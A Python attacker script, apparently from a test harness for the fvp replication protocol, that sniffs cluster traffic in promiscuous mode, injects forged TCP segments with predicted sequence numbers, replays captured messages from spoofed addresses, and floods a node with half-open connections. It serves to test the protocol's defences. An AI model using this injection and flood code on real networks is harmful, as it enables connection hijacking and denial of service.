#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""An attacker on the replication network (fvp-cluster attack.sh, on node 3).

The guests share one emulated L2 segment (a hub): with its NIC promiscuous, node 3 sees
the traffic between nodes 1 and 2. Steps, each printed as one JSON line:

  sniff    capture node 1 <-> node 2 replication segments while node 1 writes
  inject   forge messages into the live connections, with the TCP sequence numbers that
           come next: a sealed REPLICATE into node 1's data connection to node 2, an ACK
           into node 2's answers on it, a PONG into node 2's heartbeat answers
  replay   send a captured REPLICATE (header, payload, tag) on new connections, from a
           configured host's address and from one that is not
  flood    many connections from ADDRS (secondary addresses of this guest) to node 1,
           each sending a fragment of a header, held open

Usage: attacker.py STEP [ARGS]; exits 0 if the step could be carried out (not whether fvp
resisted: the programs check that on the hosts).
"""
import json
import os
import random
import socket
import struct
import sys
import time

IFACE = "eth0"
PORT = 7790
NODE1, NODE2 = "10.77.0.1", "10.77.0.2"
ETH_P_IP = 0x0800
# logic/wire.rs VERSION. A forgery of another version is refused for that, before its
# tag is looked at, and the checks that it was refused by its tag then fail.
PROTOCOL_VERSION = 7
CAPTURE = "/tmp/attacker-capture.json"


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def parse(frame):
    """(eth, ip header, tcp header, payload, fields) of an IPv4 TCP frame, or None."""
    if len(frame) < 14 + 20 or struct.unpack("!H", frame[12:14])[0] != ETH_P_IP:
        return None
    ip = frame[14:]
    ihl = (ip[0] & 15) * 4
    total = struct.unpack("!H", ip[2:4])[0]
    if ip[9] != 6 or total > len(ip):
        return None
    tcp = ip[ihl:total]
    doff = (tcp[12] >> 4) * 4
    f = {
        "src": socket.inet_ntoa(ip[12:16]),
        "dst": socket.inet_ntoa(ip[16:20]),
        "sport": struct.unpack("!H", tcp[0:2])[0],
        "dport": struct.unpack("!H", tcp[2:4])[0],
        "seq": struct.unpack("!I", tcp[4:8])[0],
        "ack": struct.unpack("!I", tcp[8:12])[0],
    }
    return frame[:14], ip[:ihl], tcp[:doff], tcp[doff:], f


def forge(eth, ip, tcp, seq, payload):
    """A frame like the captured one (same addresses, ports, ack and TCP options) carrying
    `payload` at sequence number `seq`."""
    ip = bytearray(ip)
    tcp = bytearray(tcp)
    struct.pack_into("!H", ip, 2, len(ip) + len(tcp) + len(payload))
    struct.pack_into("!H", ip, 4, random.randrange(65536))
    struct.pack_into("!H", ip, 10, 0)
    struct.pack_into("!H", ip, 10, csum(bytes(ip)))
    struct.pack_into("!I", tcp, 4, seq)
    tcp[13] = 0x18  # PSH, ACK
    struct.pack_into("!H", tcp, 16, 0)
    pseudo = ip[12:20] + struct.pack("!BBH", 0, 6, len(tcp) + len(payload))
    struct.pack_into("!H", tcp, 16, csum(bytes(pseudo) + bytes(tcp) + payload))
    return eth + bytes(ip) + bytes(tcp) + payload


def message(kind, sender, seq, payload):
    """A sealed fvp message with a made-up tag: it must never pass."""
    header = struct.pack("<IBBHIIQII", 0x52505646, PROTOCOL_VERSION, kind, 1, len(payload), sender, seq, 0, 0)
    return header + payload + os.urandom(16)


def raw_socket():
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP))
    s.bind((IFACE, 0))
    return s


def flows(frames):
    """Per (src, sport, dst, dport): the segments with a payload, in order."""
    out = {}
    for fr in frames:
        p = parse(fr)
        if p and p[3]:
            f = p[4]
            out.setdefault((f["src"], f["sport"], f["dst"], f["dport"]), []).append(p)
    return out


def sniff(seconds):
    os.system(f"ip link set {IFACE} promisc on")
    s = raw_socket()
    s.settimeout(0.2)
    frames, end = [], time.time() + seconds
    while time.time() < end:
        try:
            frames.append(s.recv(65535))
        except socket.timeout:
            pass
    return frames


def step_sniff(seconds):
    fl = flows(sniff(float(seconds)))
    keep = {}
    for key, segs in fl.items():
        src, sport, dst, dport = key
        if {src, dst} == {NODE1, NODE2} and PORT in (sport, dport):
            keep["|".join(map(str, key))] = [[s[3].hex(), len(s[3])] for s in segs[-50:]]
    with open(CAPTURE, "w") as f:
        json.dump(keep, f)
    sizes = {k: sorted({n for _, n in v}) for k, v in keep.items()}
    print(json.dumps({"step": "sniff", "flows": len(keep), "payload_sizes": sizes}))
    return bool(keep)


def inject_into(s, want, make_payload, listen, quiet):
    """Follows the flow of the first data segment `want(fields, payload_len)` selects; once that
    flow has been silent for `quiet` seconds (0: at once), injects `make_payload()` at the
    sequence number that comes next, which the receiver then takes as the next bytes of
    the stream. Returns the flow's fields once sent, None if nothing matched in time."""
    s.settimeout(0.05)
    end = time.time() + listen
    last, last_t, key = None, 0.0, None
    while time.time() < end:
        try:
            p = parse(s.recv(65535))
        except socket.timeout:
            p = None
        now = time.time()
        if p:
            f = p[4]
            k = (f["src"], f["sport"], f["dst"], f["dport"])
            if key is None and p[3] and want(f, len(p[3])):
                key = k
            # Every segment of the flow, pure ACKs too: the last one's sequence number
            # plus its payload is what comes next, and its TCP timestamp is the newest
            # (the receiver drops a segment with an older one: PAWS).
            if k == key:
                last, last_t = p, now
        if last and now - last_t >= quiet:
            eth, ip, tcp, payload, f = last
            s.send(forge(eth, ip, tcp, (f["seq"] + len(payload)) & 0xFFFFFFFF, make_payload()))
            return f
    return None


def closed_by_receiver(s, f, seconds):
    """Whether the receiver of flow `f` closed it (FIN or RST back) within `seconds`
    (`s`: the socket the injection went out on, which buffered what came back since)."""
    s.settimeout(0.1)
    end = time.time() + seconds
    while time.time() < end:
        try:
            p = parse(s.recv(65535))
        except socket.timeout:
            continue
        if not p:
            continue
        g = p[4]
        if (g["src"], g["sport"], g["dst"], g["dport"]) == (f["dst"], f["dport"], f["src"], f["sport"]) and p[2][13] & 0x05:
            return True
    return False


def injected(want, make_payload, listen, quiet):
    """Injects until the receiver closes the connection (it took the forged message and
    refused it), at most 5 times: a segment can lose the race with the sender's next one,
    and TCP then drops it as a duplicate. Returns the attempts, 0 if none succeeded."""
    os.system(f"ip link set {IFACE} promisc on")
    for attempt in range(1, 6):
        s = raw_socket()
        f = inject_into(s, want, make_payload, listen, quiet)
        closed = f is not None and closed_by_receiver(s, f, 5)
        s.close()
        if closed:
            return attempt
    return 0


def step_inject():
    results = {}
    # Node 1's data connection to node 2 (client -> server): a REPLICATE. Node 1 writes a
    # block every two seconds (attack.sh): its REPLICATEs show the flow, which is then
    # quiet until the next write.
    replicate = struct.pack("<IIQQ", 1, 0, 0, 2**64 - 1) + bytes(4096)
    results["replicate_to_node2"] = injected(
        lambda f, n: f["src"] == NODE1 and f["dst"] == NODE2 and f["dport"] == PORT and n > 4096,
        lambda: message(8, 1, 1 << 40, replicate), listen=60, quiet=0.5)
    # Node 2's answers on its data connection from node 1 (server -> client): ACKs (72
    # bytes sealed), on the connection node 1 opened again after the first injection.
    ack = struct.pack("<QiIQ", 1, 0, 0, 0)
    results["ack_to_node1"] = injected(
        lambda f, n: f["src"] == NODE2 and f["sport"] == PORT and f["dst"] == NODE1 and n == 72,
        lambda: message(11, 2, 1 << 40, ack), listen=60, quiet=0.5)
    # Node 2's heartbeat answers (PONG, 32 + 56 + 16 bytes), every heartbeat.
    pong = struct.pack("<7Q", int(time.monotonic_ns()), 7, 0, 0, 7, 0, 0)
    results["pong_to_node1"] = injected(
        lambda f, n: f["src"] == NODE2 and f["sport"] == PORT and f["dst"] == NODE1 and n == 104,
        lambda: message(6, 2, 1 << 40, pong), listen=30, quiet=0)
    print(json.dumps({"step": "inject", "attempts": results}))
    return all(results.values())


def step_replay(extra_addr):
    with open(CAPTURE) as f:
        keep = json.load(f)
    big = [bytes.fromhex(h) for segs in keep.values() for h, n in segs if n > 4096]
    if not big:
        print(json.dumps({"step": "replay", "error": "no REPLICATE captured"}))
        return False
    sent = 0
    for src in ("10.77.0.3", extra_addr):
        try:
            c = socket.create_connection((NODE2, PORT), timeout=5, source_address=(src, 0))
            c.sendall(big[-1])
            c.settimeout(5)
            try:
                closed = c.recv(1) == b""
            except OSError:
                closed = True
            c.close()
            sent += 1 if closed else 0
        except OSError:
            pass
    print(json.dumps({"step": "replay", "connections_closed_by_node2": sent}))
    return sent == 2


def step_flood(addrs, per_addr, hold):
    socks, refused = [], 0
    for a in addrs.split(","):
        for _ in range(int(per_addr)):
            try:
                c = socket.create_connection((NODE1, PORT), timeout=2, source_address=(a, 0))
                c.sendall(b"FVPR" + bytes([PROTOCOL_VERSION, 1]))  # a fragment of a HELLO's header
                socks.append(c)
            except OSError:
                refused += 1
    opened = len(socks)
    time.sleep(float(hold))
    closed = 0
    for c in socks:
        c.settimeout(0.1)
        try:
            closed += 1 if c.recv(1) == b"" else 0
        except socket.timeout:
            pass
        except OSError:
            closed += 1
        c.close()
    print(json.dumps({"step": "flood", "opened": opened, "connect_failed": refused, "closed_by_node1": closed}))
    return opened > 0


def main():
    step, args = sys.argv[1], sys.argv[2:]
    ok = {"sniff": step_sniff, "inject": step_inject, "replay": step_replay, "flood": step_flood}[step](*args)
    sys.exit(0 if ok else 1)


main()
